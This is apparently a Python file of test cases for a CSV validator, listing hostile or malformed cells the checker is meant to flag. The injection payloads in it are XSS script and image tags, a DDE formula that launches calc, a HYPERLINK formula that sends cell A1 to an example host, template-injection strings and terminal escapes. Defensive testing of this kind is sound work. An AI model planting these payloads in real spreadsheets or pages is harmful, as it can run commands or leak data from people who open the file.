"""Hostile cells and columns of records.csv, as `apportion check` meets them."""

from cases import (
    CHECK_RUNS,
    CHECK_SCORES,
    NEUTRALISED,
    RECORDS,
    Case,
    Kind,
    at_card,
    at_row,
    both,
    card,
    cell,
    change,
    write,
)

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'
BELOW = "above 0"
HEADER = "target,model,release_date,resource,locator,notes"


def rename(column: str, text: str) -> Case:
    """A case of the toy whose column is called `text`, on the card too."""
    puts = change(RECORDS, column, text), card(f"{column}: {{}}", f"{column}: {{from: {text}}}")
    name = f"{column} is read from {text}"
    return Case(Kind.ATTRIBUTE, name, both(*puts), ("toy: 3 rows in, 3 fitted",), code=NEUTRALISED)


def ignore(text: str) -> Case:
    """A case of the toy that ignores a column called `text`."""
    puts = change(RECORDS, "notes", text), card("notes:", f'"{text}":')
    name = f"{text} is ignored"
    return Case(Kind.ATTRIBUTE, name, both(*puts), ("toy: 3 rows in, 3 fitted",), code=NEUTRALISED)


def unread(text: str) -> Case:
    """A case of the toy whose card does not know the column `text`."""
    words = f"1 x {text}: no column of the card reads this column", "remedy: map it, or list it"
    put = change(RECORDS, "notes", text)
    card_lacks = card("ignored:\n  notes: remarks of the keeper of the file\n", "")
    return Case(
        Kind.ATTRIBUTE, f"{text} is not on the card", both(put, card_lacks), words, at_row(1)
    )


def number(kind: Kind, text: str, rule: str, remedy: str = "", column: str = "resource") -> Case:
    """A case of a cell of the toy that is no amount of compute."""
    words = f"1 x {column}: {rule} (such as {text!r})", f"remedy: {remedy}"
    return Case(kind, f"{column} is {text}", cell(column, text), words, at_row())


def run(kind: Kind, column: str, text: str, rule: str, remedy: str) -> Case:
    """A case of a cell of the run registry."""
    words = f"1 x {column}: {rule} (such as {text!r})", f"remedy: {remedy}"
    put = cell(column, text, "training_runs")
    return Case(
        kind, f"{column} of a run is {text}", put, words, at_row(3, "training_runs"), CHECK_RUNS
    )


PROGRAM = "not a number: {} is what a program writes for one"
EMPTY = "leave the cell empty where the figure is missing"
DIGITS = "write digits with a decimal point, such as 1.2e24"
POSITIVE = "give a positive amount"
TOTAL = "give total floating-point operations, above zero"
EXPONENT = "check the exponent"
PASTE = "paste values in its place"
SEEN = "remove it"


def invisible(sign: str, name: str, column: str = "model") -> Case:
    """A case of a cell of the toy with a character that is not seen."""
    words = f"1 x {column}: U+{ord(sign):04X}, {name}, cannot be seen", "remedy: remove it"
    put = cell(column, f"t{sign}wo")
    return Case(Kind.INVISIBLE, f"{name} in {column}", put, words, at_row())


CASES = [
    # ---- HTML or script in a name -----------------------------------------------------------
    *(
        Case(Kind.MARKUP, f"{text} is a {what}", put, (words,), command=command, code=NEUTRALISED)
        for text, what, put, words, command in (
            (SCRIPT, "model", cell("model", SCRIPT), "toy: 3 rows in, 3 fitted", ("check", "toy")),
            (IMAGE, "locator", cell("locator", IMAGE), "3 rows in, 3 fitted", ("check", "toy")),
            (
                "{{ 7 * 7 }}",
                "model",
                cell("model", "{{ 7 * 7 }}{% raw %}"),
                "3 rows in, 3 fitted",
                ("check", "toy"),
            ),
            (
                "[/red][link=file:///]",
                "method",
                cell("method", "[/red][link=file:///]", "scores"),
                "scores: 3 rows in, 3 fitted",
                CHECK_SCORES,
            ),
        )
    ),
    Case(
        Kind.MARKUP,
        "a model with script that the run registry lacks",
        cell("model", SCRIPT, "scores"),
        (f"1 x model: not in the run registry (such as {SCRIPT!r})", "add the run to the registry"),
        at_row(3, "scores"),
        CHECK_SCORES,
    ),
    Case(
        Kind.MARKUP,
        "script in the name of a column",
        change(RECORDS, "notes", SCRIPT),
        (f"{SCRIPT}: no column of the card reads this column", "remedy: map it, or list it"),
        at_row(1),
    ),
    # ---- formula cells ----------------------------------------------------------------------
    number(Kind.FORMULA, "=1+1", "not a number: a formula", PASTE),
    number(Kind.FORMULA, "=A1*2", "not a number: a formula", PASTE),
    number(Kind.FORMULA, "@SUM(1,2)", "not a number: a formula", PASTE),
    number(Kind.FORMULA, "+cmd|' /C calc'!A0", "not a number: a formula", PASTE),
    number(Kind.FORMULA, "=TODAY()", "not a date: a formula", PASTE, "release_date"),
    Case(
        Kind.FORMULA,
        "a formula that a correction of the card writes",
        card(
            "options:",
            "corrections:\n  - {rows: {model: two}, count: 1, column: resource, printed: '1e17',\n"
            "     corrected: '=1+1', reason: the table prints a formula}\noptions:",
        ),
        ("1 x resource: not a number: a formula (such as '=1+1')", PASTE),
        at_row(),
    ),
    Case(
        Kind.FORMULA,
        "a formula in a column of text",
        cell("model", Kind.FORMULA),
        ("toy: 3 rows in, 3 fitted",),
        code=NEUTRALISED,
    ),
    # ---- columns named like Python attributes -----------------------------------------------
    *map(ignore, ("__class__", "T", "index", "size", "mro", "values", "columns", "loc")),
    *(rename("model", text) for text in ("__class__", "T", "index", "size", "mro", "__dict__")),
    Case(
        Kind.ATTRIBUTE,
        "resource is read from shape",
        both(
            change(RECORDS, "resource", "shape"), card("{unit: FLOP}", "{from: shape, unit: FLOP}")
        ),
        ("resource: FLOP to FLOP, times 1",),
        code=NEUTRALISED,
    ),
    *map(unread, ("__class__", "mro", "__init__", "apply")),
    Case(
        Kind.ATTRIBUTE,
        "an attribute as a column of the table",
        card("  locator: {}\n", "  locator: {}\n  __class__: {}\n"),
        ("1 x columns.__class__: not a column of efficiency",),
        at_card(22),
    ),
    Case(
        Kind.ATTRIBUTE,
        "the column that the pipeline adds",
        change(RECORDS, "notes", "line"),
        ("'line' is a column of the pipeline", "remedy: rename the column"),
        at_row(1),
    ),
    # ---- invisible characters ---------------------------------------------------------------
    invisible("\u202e", "right-to-left override"),
    invisible("\u200f", "right-to-left mark"),
    invisible("\u2066", "left-to-right isolate"),
    invisible("\u061c", "arabic letter mark", "target"),
    invisible("\u200b", "zero width space"),
    invisible("\u00ad", "soft hyphen", "locator"),
    invisible("\u2028", "line separator"),
    invisible("\x1b", "control character"),
    invisible("\U000e0041", "tag latin capital letter a"),
    Case(
        Kind.INVISIBLE,
        "a right-to-left mark in a number",
        cell("resource", "1e\u200f17"),
        ("1 x resource: U+200F, right-to-left mark, cannot be seen", "remedy: remove it"),
        at_row(),
    ),
    Case(
        Kind.INVISIBLE,
        "a right-to-left mark in the name of a column",
        change(RECORDS, "notes", "no\u202etes"),
        (r"'no\u202etes': U+202E, right-to-left override, cannot be seen", "remedy: remove it"),
        at_row(1),
    ),
    Case(
        Kind.INVISIBLE,
        "a terminal's escape in a column that is ignored",
        cell("notes", "\x1b[2J\x1b[31m\u202e"),
        ("toy: 3 rows in, 3 fitted",),
        code=NEUTRALISED,
    ),
    # ---- NaN, infinities --------------------------------------------------------------------
    *(number(Kind.NAN, text, PROGRAM.format(text), EMPTY) for text in ("NaN", "nan", "-nan")),
    run(Kind.NAN, "parameters", "NaN", PROGRAM.format("NaN"), EMPTY),
    number(Kind.NAN, "NaN", "not a date as YYYY-MM-DD", "write YYYY-MM-DD", "release_date"),
    *(number(Kind.INFINITY, each, PROGRAM.format(each), EMPTY) for each in ("inf", "-inf")),
    number(Kind.INFINITY, "Infinity", PROGRAM.format("Infinity"), EMPTY),
    number(Kind.INFINITY, "∞", "not a number", DIGITS),
    run(Kind.INFINITY, "training_flop", "+Inf", PROGRAM.format("+Inf"), EMPTY),
    # ---- zero and negative compute ----------------------------------------------------------
    *(number(Kind.ZERO, text, BELOW, POSITIVE) for text in ("0", "0.0", "0e24", "-0")),
    run(Kind.ZERO, "training_flop", "0", BELOW, TOTAL),
    run(Kind.ZERO, "parameters", "0", BELOW, "give a positive count"),
    *(number(Kind.NEGATIVE, text, BELOW, POSITIVE) for text in ("-1e17", "-1", "-1e-30")),
    run(Kind.NEGATIVE, "training_flop", "-6e20", BELOW, TOTAL),
    number(Kind.NEGATIVE, "(1e17)", "not a number", DIGITS),
    # ---- 1e400 ------------------------------------------------------------------------------
    *(number(Kind.HUGE, text, "too large for a number", EXPONENT) for text in ("1e400", "1e99999")),
    *(
        number(Kind.HUGE, text, "too small for a number", EXPONENT)
        for text in ("1e-400", "5e-324", "-1e-101")
    ),
    number(Kind.HUGE, "1e999999", "not a number", DIGITS),
    number(Kind.HUGE, "1e30", "below 1e+30", POSITIVE),
    Case(
        Kind.HUGE,
        "ten thousand digits",
        cell("resource", "9" * 10_000),
        ("1 x resource: too large for a number (such as '999", "remedy: check the exponent"),
        at_row(),
    ),
    run(Kind.HUGE, "parameters", "1e400", "too large for a number", EXPONENT),
    # ---- numbers as text --------------------------------------------------------------------
    number(Kind.TEXT, "seven", "not a number", DIGITS),
    number(Kind.TEXT, "1O24", "not a number", DIGITS),
    number(Kind.TEXT, "l0", "not a number", DIGITS),
    number(Kind.TEXT, "'42", "not a number: an apostrophe marks text in a spreadsheet", SEEN),
    number(Kind.TEXT, "1,234", "may be thousands or a decimal comma", "state `decimal: comma` or"),
    number(
        Kind.TEXT, "1e17 quadrillion", "no unit that a cell may name", "state the unit on the card"
    ),
    number(Kind.TEXT, "٤٢", "not a number", DIGITS),
    number(Kind.TEXT, "1Oe2l", "not a number", DIGITS),
    number(Kind.TEXT, "0x1F", "no unit that a cell may name", "state the unit on the card"),
    number(Kind.TEXT, "1_000", "not a number", DIGITS),
    run(Kind.TEXT, "parameters", "seven", "not a number", DIGITS),
    # ---- wrong encodings, broken CSV --------------------------------------------------------
    Case(
        Kind.ENCODING,
        "Latin-1",
        write(RECORDS, f"{HEADER}\nfirst,é,2012-06-01,1,,\n".encode("latin-1")),
        ("byte 0xe9 is not UTF-8", "remedy: save it as CSV in UTF-8"),
        at_row(2),
    ),
    Case(
        Kind.ENCODING,
        "UTF-16",
        write(RECORDS, f"{HEADER}\nfirst,one,2012-06-01,1,,\n".encode("utf-16")),
        ("the file is UTF-16, not UTF-8", "remedy: save it as CSV in UTF-8"),
    ),
    Case(
        Kind.ENCODING,
        "a zero byte",
        cell("notes", "\0"),
        ("a zero byte: binary or UTF-16, not UTF-8", "remedy: save it as CSV in UTF-8"),
        at_row(),
    ),
    Case(
        Kind.BROKEN_CSV,
        "a quote that is not closed",
        change(RECORDS, "Table 1,\nfirst,two", 'Table 1,"\nfirst,two'),
        ("not CSV: unexpected end of data at line 4", "remedy: mend the quoting"),
        at_row(2),
    ),
    Case(
        Kind.BROKEN_CSV,
        "a row that is too long",
        change(RECORDS, "Table 2,\n", "Table 2,,,\n"),
        ("8 cells where the header has 6", "remedy: quote cells that hold a comma"),
        at_row(4),
    ),
    Case(
        Kind.BROKEN_CSV,
        "columns that differ in case alone",
        change(RECORDS, "notes", "MODEL"),
        ("column names differ in case or spaces alone: ['model', 'MODEL']",),
        at_row(1),
    ),
    Case(
        Kind.BROKEN_CSV,
        "a cell of a million characters",
        cell("notes", "x" * 1_000_000),
        ("a cell longer than 10,000 characters", "remedy: shorten it"),
        at_row(),
    ),
]
